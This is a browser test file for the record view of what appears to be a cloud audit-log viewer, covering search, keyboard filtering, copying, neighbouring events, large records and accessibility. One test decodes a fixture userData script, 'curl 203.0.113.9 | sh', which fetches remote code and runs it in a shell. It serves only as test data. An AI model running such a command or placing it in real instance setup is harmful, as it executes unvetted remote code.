import { describe, expect, test, vi } from 'vitest';
import { page, userEvent } from 'vitest/browser';
import type { EventDetail } from '../../../workers/contract.ts';
import { violations } from './axe.ts';
import { setupCase, type Setup } from './setup.ts';

const record = () => page.getByRole('region', { name: 'Record', exact: true });
const outline = (name: string) => record().getByRole('tree', { name, exact: true });
const find = () => record().getByRole('textbox', { name: 'Find in the record' });
const filter = () => page.getByRole('searchbox', { name: 'Filter' });

/** Opens event 0 with what `change` makes of its record and detail. */
async function openWith(
  change: (record: Record<string, unknown>) => Record<string, unknown>,
  more: Partial<EventDetail> = {},
): Promise<Setup> {
  const made = await setupCase({ events: 7000 }, ({ cases }) => {
    const original = cases.world.detail.bind(cases.world);
    cases.world.detail = (event) => {
      const detail = original(event);
      if (event !== 0) return detail;
      return {
        ...detail,
        raw: JSON.stringify(change(JSON.parse(detail.raw) as Record<string, unknown>)),
        ...more,
      };
    };
  });
  made.session.navigation.go({ event: 0 });
  await expect.element(outline('Record')).toBeVisible();
  return made;
}

/** What was put on the clipboard. */
function watchClipboard(): string[] {
  const copied: string[] = [];
  vi.spyOn(navigator.clipboard, 'writeText').mockImplementation((text) => {
    copied.push(text);
    return Promise.resolve();
  });
  return copied;
}

/** Text of the lines that are drawn of a tree, without its tools. */
function linesOf(name: string): string[] {
  const tree = document.querySelector(`[role="tree"][aria-label="${name}"]`);
  return Array.from(tree?.querySelectorAll('.line') ?? [], (line) => line.textContent.trim());
}

describe('finding in the record', () => {
  test('f goes to it, Enter and n through what is found, around the end', async () => {
    const { session } = await openWith((one) => one);
    await userEvent.keyboard('f');
    await expect.element(find()).toHaveFocus();
    await userEvent.keyboard('tcp');
    await expect.element(record().getByText('1', { exact: true }).first()).toBeVisible();
    await find().fill('port');
    await userEvent.keyboard('{Enter}');
    await expect.element(record().getByText('1 of 2')).toBeVisible();
    await vi.waitFor(() => {
      expect(document.querySelector('.line.hit')?.textContent).toContain('"fromPort"');
    });
    const box = document.querySelector('.line.hit')?.getBoundingClientRect();
    expect(box?.top).toBeGreaterThan(0);
    expect(box?.bottom).toBeLessThan(800);
    await userEvent.keyboard('{Shift>}{Enter}{/Shift}');
    await expect.element(record().getByText('2 of 2')).toBeVisible();
    (document.activeElement as HTMLElement).blur();
    await userEvent.keyboard('n');
    await expect.element(record().getByText('1 of 2')).toBeVisible();
    await userEvent.keyboard('N');
    await expect.element(record().getByText('2 of 2')).toBeVisible();
    expect(session.detail.reader.found).toHaveLength(2);
  });

  test('opens what is folded, and what a string holds', async () => {
    await openWith((one) => one);
    await find().fill('2012-10-17');
    await userEvent.keyboard('{Enter}');
    await vi.waitFor(() => {
      expect(document.querySelector('.line.hit')?.textContent).toContain('"Version": "2012-10-17"');
    });
  });
});

describe('a line of the record', () => {
  test('is reached and folded by keyboard, and filters by it', async () => {
    await openWith((one) => one);
    const request = outline('Request');
    (request.element() as HTMLElement).focus();
    await userEvent.keyboard('+');
    await expect.element(filter()).toHaveValue('requestParameters.userName.keyword:"backup-sync"');
    await userEvent.keyboard('-');
    await expect.element(filter()).toHaveValue('NOT requestParameters.userName.keyword:"backup-sync"');
    await userEvent.keyboard('{ArrowDown}');
    expect(linesOf('Request')[1]).toMatch(/^policyDocument JSON in a string/);
    await userEvent.keyboard('{ArrowLeft}');
    await vi.waitFor(() => {
      expect(linesOf('Request')[1]).toContain('{"Version"');
    });
    await userEvent.keyboard('{ArrowRight}{ArrowRight}{ArrowDown}{ArrowDown}{ArrowDown}');
    const copied = watchClipboard();
    await userEvent.keyboard('p');
    expect(copied).toEqual(['requestParameters.policyDocument ▸ Statement[0].Effect']);
    await userEvent.keyboard('c+');
    expect(copied.at(-1)).toBe('Allow');
    await expect
      .element(filter())
      .toHaveValue(
        'NOT requestParameters.userName.keyword:"backup-sync" AND requestParameters.policyDocument:"Allow"',
      );
  });

  test('numbers are asked for as numbers, objects copied with their literals', async () => {
    await openWith((one) => ({ ...one, requestParameters: { port: 443, tags: { a: [1, 2] } } }));
    await outline('Request').getByText('443').hover();
    await record().getByRole('button', { name: 'Filter out requestParameters.port:443' }).click();
    await expect.element(filter()).toHaveValue('NOT requestParameters.port:443');
    const copied = watchClipboard();
    await outline('Request').getByText('tags').hover();
    await outline('Request').getByRole('button', { name: 'Copy value (c)' }).click();
    expect(copied).toEqual(['{"a":[1,2]}']);
  });

  test('user data is decoded, and the recorded form stays', async () => {
    const userData = btoa('#!/bin/sh\ncurl 203.0.113.9 | sh');
    await openWith((one) => ({ ...one, requestParameters: { userData } }));
    expect(linesOf('Request')).toEqual(['userData base64 text', '#!/bin/sh', 'curl 203.0.113.9 | sh']);
    expect(linesOf('Record').join('\n')).toContain(`"userData": "${userData}"`);
  });
});

describe('why it fired', () => {
  test('leads to the place in the record', async () => {
    await openWith((one) => one);
    await record().getByRole('button', { name: 'requestParameters.ipPermissions.items[0].toPort' }).click();
    await vi.waitFor(() => {
      const line = document.querySelector('.line.marked .key')?.closest('.line');
      expect(line).not.toBeNull();
      const port = Array.from(document.querySelectorAll('.line.marked')).find((one) =>
        one.textContent.includes('"toPort"'),
      );
      expect(port?.getBoundingClientRect().bottom).toBeLessThan(800);
    });
  });
});

describe('other events', () => {
  test('the neighbours are listed and opened, and next goes on from there', async () => {
    const { session } = await setupCase({ events: 7000 });
    await page.getByRole('tab', { name: 'Events' }).click();
    session.navigation.go({ event: 20 });
    await expect.element(record().getByText('21 of 7,000')).toBeVisible();
    const list = record().getByRole('list', { name: 'Events of the same principal' });
    await expect.element(list).toBeVisible();
    expect(list.getByRole('listitem').elements()).toHaveLength(11);
    await list.getByRole('button').nth(9).click();
    await expect.element(record().getByText('26 of 7,000')).toBeVisible();
    expect(session.navigation.place.event).toBe(25);
    await userEvent.keyboard('j');
    await vi.waitFor(() => {
      expect(session.navigation.place.event).toBe(26);
    });
  });

  test('an addendum says what it amends and leads there', async () => {
    const { session } = await openWith((one) => ({
      ...one,
      addendum: { reason: 'UPDATED_DATA', updatedFields: 'eventName', originalEventID: 'abc-1' },
    }));
    await expect
      .element(record().getByText('This record brings fields of another event up to date.'))
      .toBeVisible();
    await record().getByRole('button', { name: 'Find the event it amends' }).click();
    expect(session.navigation.place).toMatchObject({ tab: 'events', query: 'eventID.keyword:"abc-1"' });
  });

  test('the same ID with other content is one click away', async () => {
    const other = await setupCase({ events: 700 });
    const row = other.cases.world.row(5, 'events');
    const { session } = await openWith((one) => one, { conflicts: [row] });
    await expect.element(record().getByText('1 event with this event ID and other content:')).toBeVisible();
    await record()
      .getByRole('button', { name: new RegExp(row.eventName) })
      .last()
      .click();
    expect(session.navigation.place.event).not.toBe(0);
  });
});

describe('copying', () => {
  test('the menu opens with C, and each form has a key', async () => {
    const { session } = await openWith((one) => one);
    const copied = watchClipboard();
    for (const key of ['j', 'm', 'f']) {
      await userEvent.keyboard('C');
      await expect.element(page.getByRole('menu', { name: 'Copy' })).toBeVisible();
      await userEvent.keyboard(key);
    }
    expect(copied[0]).toBe(session.detail.current?.raw);
    expect(copied[1]).toMatch(/^- 2023-07-10T[\d:]+Z: \*\*.+\*\*, \S+ \w+ from .+; event 7f0c8b1e-/);
    expect(copied[2]).toBe('eventID.keyword:"7f0c8b1e-0000-4000-8000-000000000000"');
  });
});

describe('what is very long', () => {
  test('a value of 100 kB is folded, and shown whole on request', async () => {
    await openWith((one) => ({ ...one, userAgent: 'A'.repeat(102_400) }));
    const all = record().getByRole('button', { name: 'show all (102,400 characters)' });
    expect(document.querySelector('section.detail')?.textContent.length).toBeLessThan(20_000);
    await all.first().click();
    await vi.waitFor(() => {
      expect(document.querySelector('section.detail')?.textContent.length).toBeGreaterThan(4000);
    });
  });

  test('a record of ten thousand lines is drawn where it is looked at', async () => {
    const items = Array.from({ length: 3000 }, (_, id) => ({ id, name: `item ${id}` }));
    await openWith((one) => ({ ...one, requestParameters: { items } }));
    expect(document.querySelectorAll('.line').length).toBeLessThan(1000);
    await find().fill('item 2999');
    await userEvent.keyboard('{Enter}');
    await vi.waitFor(() => {
      const hit = document.querySelector('.line.hit');
      expect(hit?.textContent).toContain('"item 2999"');
      const box = hit?.getBoundingClientRect();
      expect(box?.top).toBeGreaterThan(0);
      expect(box?.bottom).toBeLessThan(800);
    });
    expect(document.querySelectorAll('.line').length).toBeLessThan(2000);
  });
});

test('axe finds nothing wrong with a record, searched and with its menu open', async () => {
  await openWith((one) => one);
  await find().fill('port');
  await userEvent.keyboard('{Enter}');
  (outline('Request').element() as HTMLElement).focus();
  await userEvent.keyboard('C');
  await expect.element(page.getByRole('menu', { name: 'Copy' })).toBeVisible();
  expect(await violations()).toEqual([]);
});
